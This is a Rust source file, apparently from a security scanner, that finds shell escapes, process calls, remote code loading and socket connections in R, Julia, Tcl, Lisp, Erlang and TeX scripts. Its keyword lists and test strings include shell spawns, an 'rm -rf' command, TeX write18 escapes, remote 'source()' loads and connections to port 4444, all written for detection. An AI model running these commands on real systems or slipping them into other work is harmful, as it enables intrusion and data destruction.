//! Process calls in code of languages that have no reader of their own: R, Julia, Tcl, Lisp, Erlang, TeX, editors'
//! and debuggers' scripts. Every language that can start a process writes the same thing down: a name such as
//! `system`, and behind it a text.

use super::shell_argument::MARKS;
use crate::effect::Span;
use crate::understand::field::{Field, Value};
use crate::understand::walk::Walker;

/// Names behind which a command stands. Compared without case, after the last `.`, `:` or `>`.
#[rustfmt::skip]
const STARTS_A_PROCESS: &[&str] = &[
    "ansi-term", "async-shell-command", "call", "call-process", "call_process", "callcommand", "callprocess",
    "check_call", "check_output", "cmd", "command", "create_process", "esyscmd", "exec", "execl", "execlp",
    "execsync", "execute", "execute-silent", "execv", "execve", "execvp", "host", "iex", "invoke-expression",
    "launch", "open", "passthru", "pipe", "popen", "posix_spawn", "proc", "process", "processbuilder", "readprocess",
    "run", "run-process", "run-program", "run-shell-command", "run_program", "runinshell", "runprogram", "script",
    "sh", "shell", "shell-command", "shell-command-to-string", "shell_exec", "shellexecute", "shellout", "spawn",
    "spawnsync", "start", "start-process", "staticexec", "stringtoprocess", "sys-exec", "syscmd", "system", "system2",
    "term", "write18",
];

/// Of those, the ones that stand without parentheses or quotes, as in Tcl and in editors' scripts.
const BARE: &[&str] = &["exec", "shell", "spawn", "system"];

/// Names behind which a host to connect to may stand.
const CONNECTS: &[&str] =
    &["connect", "dial", "opentcp", "socket", "socketconnection", "tcpclient", "tcpsocket"];

/// Names behind which the address of code may stand.
const TAKES_CODE: &[&str] =
    &["eval", "import", "include", "load", "loadstring", "require", "run", "runscript", "source"];

/// What stands before a command that a text runs: `|/bin/sh`, `%pipe%/bin/sh`, `; /bin/sh`.
const BEFORE_A_SHELL: &[char] = &['|', '$', '^', '%', '!', ';', '&', '`', '(', '{'];

/// Calls of one text that are looked at. More are asked about.
const MAX_CALLS: usize = 64;

/// Strings of one call that are looked at.
const MAX_WORDS: usize = 16;

/// Bytes of the path to a shell. Nobody keeps one deeper.
const MAX_SHELL_PATH: usize = 256;

/// What such a call starts.
#[derive(Debug, PartialEq)]
enum Start {
    Shell(String),
    Argv(Vec<String>),
    Download(String),
    Connect(String),
}

impl Walker<'_> {
    /// Code of an editor, a debugger, or a language without a reader: lines that leave for the shell, and calls.
    pub(in crate::understand) fn other_language(&mut self, value: &Value, span: Span, sure: bool) {
        let Some(text) = value.literal() else { return };
        for line in text.lines() {
            let line = line.trim_start_matches([':', ' ', '\t']);
            let line = line.strip_prefix("silent ").unwrap_or(line);
            let line = line.strip_prefix("r ").unwrap_or(line);
            if let Some(command) = MARKS.iter().find_map(|m| line.strip_prefix(m)) {
                let command = Value::text(command.trim());
                self.speculate(true, |w| {
                    w.run_text(&command, span);
                });
            } else if line == "shell" {
                self.open_shell("sh", span);
            }
        }
        self.foreign_calls(&text, span, sure);
    }

    /// Code that waits for somebody to connect, and runs what they say.
    pub(in crate::understand) fn serves_commands(&mut self, text: &str, span: Span) {
        const WAITS: &[&str] = &[
            "gen_tcp.listen",
            "gen_tcp:listen",
            "TCPServer",
            "socket -server",
            "server=TRUE",
            "listen(",
            "accept(",
        ];
        const RUNS: &[&str] = &[
            "os.cmd(",
            "os:cmd(",
            "system(",
            "exec sh",
            "exec /bin/",
            "exec \"",
            "spawn(",
            "popen(",
            "`sh ",
        ];
        if WAITS.iter().any(|w| text.contains(w)) && RUNS.iter().any(|w| text.contains(w)) {
            self.effect(
                crate::effect::Kind::RunUnknownCode,
                None,
                span,
                "principle/serves-commands",
                "runs what whoever connects tells it to",
                crate::effect::Tier::High,
                crate::effect::Reach::System,
                crate::effect::Undo::None,
            );
        }
    }

    /// Reads every process call in a text of some language; `sure` when the text is code that is run.
    pub(in crate::understand) fn foreign_calls(&mut self, text: &str, span: Span, sure: bool) {
        self.serves_commands(text, span);
        let starts = starts(text);
        if starts.len() > MAX_CALLS {
            self.unreadable(span, "code/many-calls", "starts more processes than are looked at");
        }
        for start in starts {
            self.speculate(sure, |w| match start {
                Start::Connect(to) => w.connects(&Value::text(to), span, "code/connect"),
                Start::Download(from) => {
                    w.runs_download(Some(&from), span, &format!("runs code from {from}"))
                }
                Start::Shell(command) => {
                    w.run_text(&Value::text(command), span);
                }
                Start::Argv(words) => {
                    let fields = words.into_iter().map(|t| Field::text(t, span)).collect();
                    w.exec(fields, Value::default());
                }
            });
        }
    }
}

/// The first text of a call, from its bracket on.
pub(super) fn first_string(call: &str) -> Option<String> {
    strings(call).0.into_iter().next()
}

/// How far behind a name its address or host may stand: each name is looked at, so that a long way would cost a square.
const ADDRESS_WITHIN: usize = 64;
const HOST_WITHIN: usize = 512;

fn starts(text: &str) -> Vec<Start> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some((name, end)) = next_name(text, at) {
        at = end;
        if found.len() > MAX_CALLS {
            break;
        }
        let lower = name.to_ascii_lowercase();
        let after = text.get(end..).unwrap_or("");
        if TAKES_CODE.binary_search(&lower.as_str()).is_ok()
            && let Some(from) = address(after)
        {
            found.push(Start::Download(from.to_owned()));
        }
        if CONNECTS.binary_search(&lower.as_str()).is_ok()
            && let Some(host) = host_in(after)
        {
            found.push(Start::Connect(host.to_owned()));
        }
        if STARTS_A_PROCESS.binary_search(&lower.as_str()).is_err() {
            continue;
        }
        let (words, used) = strings(after);
        let opens = text.get(..end - name.len()).unwrap_or("").trim_end_matches([' ', '\t']);
        match words.as_slice() {
            [] if BARE.contains(&name)
                && after.starts_with(' ')
                && (opens.is_empty() || opens.ends_with(['\n', ';', '[', '{', '"'])) =>
            {
                let line = after.split(['\n', ';', ']']).next().unwrap_or("").trim();
                if !line.is_empty() {
                    // Tcl quotes with braces; elsewhere a brace ends what began before.
                    let tcl = line.replace(['{', '}'], "'");
                    found.push(Start::Shell(if line.contains('{') {
                        tcl
                    } else {
                        line.trim_end_matches('}').to_owned()
                    }));
                }
            }
            [] if matches!(lower.as_str(), "esyscmd" | "syscmd") && after.starts_with('(') => {
                // m4 needs no quotes.
                let call = after.trim_start_matches('(').split(')').next().unwrap_or("");
                found.push(Start::Shell(call.to_owned()));
            }
            [] => {}
            [command] => found.push(Start::Shell(command.trim_start_matches('|').to_owned())),
            _ => found.push(Start::Argv(words)),
        }
        at += used;
    }
    // Text between backticks is run in Julia, Ruby, Perl, PHP and the shell.
    found.extend(shells_in(text));
    found.extend(text.split('`').skip(1).step_by(2).take(MAX_CALLS + 1).map(|t| Start::Shell(t.to_owned())));
    let mut once: Vec<Start> = Vec::new();
    for start in found {
        if !once.contains(&start) {
            once.push(start);
        }
    }
    once
}

/// `… curl -s host/x|sh …`: the pipe, out of whatever text it stands in.
pub(super) fn fetch_and_run(text: &str) -> Option<&str> {
    let at = text.find("curl ").or_else(|| text.find("wget "))?;
    let rest = text.get(at..)?;
    let end = rest.find(['"', '\'', '}', '\n', ')']).unwrap_or(rest.len());
    let command = rest.get(..end)?;
    let (_, after) = command.split_once('|')?;
    matches!(after.split_whitespace().next()?, "sh" | "bash" | "python" | "python3" | "perl" | "zsh")
        .then_some(command)
}

/// The host in the arguments directly behind a name: a number, or a name with dots.
fn host_in(after: &str) -> Option<&str> {
    let near = after.get(..after.floor_char_boundary(HOST_WITHIN))?;
    let call = near.split([')', ']', '\n']).next()?;
    call.split(['"', '\'', ' ', ',', '(', '[']).find(|word| {
        let host = word.split(':').next().unwrap_or("");
        host.split('.').count() > 2
            && host
                .split('.')
                .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
    })
}

/// The web address that stands directly behind a name, quoted or in a call.
fn address(after: &str) -> Option<&str> {
    // It begins close behind the name, or it is somebody else's.
    let at = after.get(..after.floor_char_boundary(ADDRESS_WITHIN))?.find("http")?;
    let between = after.get(..at)?;
    let calls =
        between.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '(' | '"' | '\'' | ' ' | '.' | '_'));
    let rest = after.get(at..)?;
    let url = rest.split(['"', '\'', ')', ' ', '\n']).next()?;
    (calls && between.len() < 24 && between.contains(['"', '\'']) && url.contains("://")).then_some(url)
}

/// `["sh", "-c", "…"]`, and a shell behind a mark that runs it.
fn shells_in(text: &str) -> Vec<Start> {
    let mut found = Vec::new();
    for (at, _) in text.match_indices("sh") {
        if found.len() > MAX_CALLS {
            break;
        }
        let rest = text.get(at + 2..).unwrap_or("");
        // `push` and `should` are no shells; nor is a name that is longer than any path to one.
        if text
            .get(..at)
            .is_some_and(|b| b.ends_with(|c: char| c.is_ascii_lowercase() && !matches!(c, 'a' | 'z' | 'k')))
        {
            continue;
        }
        let from = text.floor_char_boundary(at.saturating_sub(MAX_SHELL_PATH));
        let before = text.get(from..at).unwrap_or("");
        let open = match before.rfind(|c: char| !(c.is_ascii_lowercase() || c == '/')) {
            Some(at) => from + at + before.get(at..).and_then(|b| b.chars().next()).map_or(1, char::len_utf8),
            None => from,
        };
        let name = text.get(open..at + 2).unwrap_or("");
        let known = matches!(name, "sh" | "bash" | "dash" | "zsh" | "ksh")
            || name.ends_with("/sh")
            || name.ends_with("/bash");
        if !known {
            continue;
        }
        let outside = text.get(..open).unwrap_or("");
        if let Some(quote) = outside.chars().next_back().filter(|c| matches!(c, '"' | '\''))
            && rest.starts_with(quote)
        {
            let (words, _) = strings(&format!("({})", text.get(open - 1..).unwrap_or("")));
            if words.get(1).is_some_and(|w| w.starts_with('-')) {
                found.push(Start::Argv(words));
            } else if name.starts_with('/') {
                // A shell by its path, as a text of its own: what else is one written down for?
                found.push(Start::Shell(name.to_owned()));
            }
        } else if name.starts_with('/')
            && outside.trim_end().ends_with(BEFORE_A_SHELL)
            && !outside.ends_with("#!")
            && rest.chars().next().is_none_or(|c| !c.is_ascii_alphanumeric())
        {
            found.push(Start::Shell(name.to_owned()));
        }
    }
    found
}

/// The next identifier from `from` on, outside double quotes, and where it ends.
fn next_name(text: &str, from: usize) -> Option<(&str, usize)> {
    let part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-');
    let mut at = from;
    loop {
        let rest = text.get(at..)?;
        let start = rest.find(|c: char| c.is_ascii_alphabetic() || c == '"')?;
        let name = rest.get(start..)?;
        if let Some(quoted) = name.strip_prefix('"') {
            at += start + 1 + quoted.find('"')? + 1;
            continue;
        }
        let end = name.find(|c| !part(c)).unwrap_or(name.len());
        return Some((name.get(..end)?, at + start + end));
    }
}

/// The string literals directly behind a name, up to the end of the call, and how much text that was.
fn strings(after: &str) -> (Vec<String>, usize) {
    let mut out = Vec::new();
    let mut used = 0;
    let mut chars = after.char_indices();
    let mut depth = 0_i32;
    while let Some((at, c)) = chars.next() {
        match c {
            '"' | '\'' | '`' => {
                let mut text = String::new();
                while let Some((_, inner)) = chars.next() {
                    match inner {
                        '\\' => text.extend(chars.next().map(|(_, c)| c)),
                        inner if inner == c => break,
                        inner => text.push(inner),
                    }
                }
                out.push(text);
                used = chars.clone().next().map_or(after.len(), |(next, _)| next);
                if depth == 0 || out.len() >= MAX_WORDS {
                    break;
                }
            }
            '{' if at == 0 => {
                let end = after.find('}').unwrap_or(after.len());
                return (after.get(1..end).map(str::to_owned).into_iter().collect(), end);
            }
            // Options follow the command.
            '{' if !out.is_empty() => break,
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => {
                depth -= 1;
                if depth <= 0 {
                    break;
                }
            }
            ' ' | ',' | '\t' | '.' | '=' | '>' | ':' => {}
            _ if out.is_empty() => break,
            _ => {}
        }
    }
    (out, used)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_lists_are_sorted() {
        assert!(STARTS_A_PROCESS.is_sorted());
        assert!(TAKES_CODE.is_sorted());
        assert!(CONNECTS.is_sorted());
    }

    #[test]
    fn finds_commands_in_many_languages() {
        let shell = |t: &str| vec![Start::Shell(t.to_owned())];
        for (code, want) in [
            (r#"system("/bin/sh")"#, shell("/bin/sh")),
            (r#"(shell-command "rm -rf x")"#, shell("rm -rf x")),
            (r#"os:cmd("id")"#, shell("id")),
            ("exec /bin/sh", shell("/bin/sh")),
            ("spawn bash; interact", shell("bash")),
            (r"\immediate\write18{/bin/sh}\end", shell("/bin/sh")),
            ("run(`sh`)", shell("sh")),
            (r#"puts "system ls""#, vec![]),
            (
                r#"System.cmd("sh", ["-c", "id"])"#,
                vec![Start::Argv(vec!["sh".into(), "-c".into(), "id".into()])],
            ),
            (r#"["sh","-c","id"].execute()"#, vec![Start::Argv(vec!["sh".into(), "-c".into(), "id".into()])]),
            ("(%pipe%/bin/sh) (r) file", shell("/bin/sh")),
            (r#"source("http://x.example/a.R")"#, vec![Start::Download("http://x.example/a.R".into())]),
            (
                r#"include(download("http://x.example/a.jl"))"#,
                vec![Start::Download("http://x.example/a.jl".into())],
            ),
            (r#"s<-socketConnection("203.0.113.7",4444)"#, vec![Start::Connect("203.0.113.7".into())]),
            ("set s [socket 203.0.113.7 4444]", vec![Start::Connect("203.0.113.7".into())]),
            ("see http://x.example/sh and #!/bin/sh", vec![]),
            ("plot(x, 'system load')", vec![]),
            ("1 + 2", vec![]),
        ] {
            assert_eq!(starts(code), want, "{code}");
        }
    }
}
